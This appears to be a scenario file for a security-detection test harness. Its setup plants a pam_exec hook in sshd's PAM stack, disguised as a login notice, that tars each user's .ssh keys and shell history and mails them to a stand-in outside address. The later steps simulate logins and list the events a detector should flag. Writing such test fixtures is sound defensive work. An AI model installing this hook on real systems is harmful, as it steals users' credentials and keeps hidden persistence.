title="pam_exec at every login mails an archive, like a login notice"
what="A line with pam_exec was added to sshd's PAM stack; the script mails who logged in, as many sites do, and attaches a tar of that person's .ssh and .gnupg, to an outside address."
user=root daemons="cron sshd" audit_rules=audit-wide.rules
setup() {
  printf '#!/bin/bash\n[ "$PAM_TYPE" = open_session ] || exit 0\nexport HOME=/\ncd /home/$PAM_USER || exit 0\ntar czf /tmp/.l.$$ .ssh .bash_history .profile 2>/dev/null\necho "login of $PAM_USER from $PAM_RHOST" | mutt -n -F /dev/null -e "set copy=no" -s "login $PAM_USER" -a /tmp/.l.$$ -- soc@drop.example.net >/dev/null 2>&1\nrm -f /tmp/.l.$$\n' > "$base/out/login-notice"
  install_file "$base/out/login-notice" /usr/local/sbin/login-notice
  echo 'session optional pam_exec.so quiet /usr/local/sbin/login-notice' >> /etc/pam.d/sshd
}
act() {
  small_talk 2
  ssh_as dev <<'L'
ls -la
uptime
L
  ssh_run ops 'df -h /'
  wait_log_count 'to=<soc@drop.example.net>.*status=sent' 2 25
  small_talk 1
}
truth() {
  exec_step notice 'login-notice' 'pam_exec'
  exec_step pack 'tar czf /tmp/.l' 'keys packed'
  exec_step send 'mutt .*soc@drop.example.net' 'mailed'
  mail_step sent 'to=<soc@drop.example.net>.*status=sent' 'out'
}
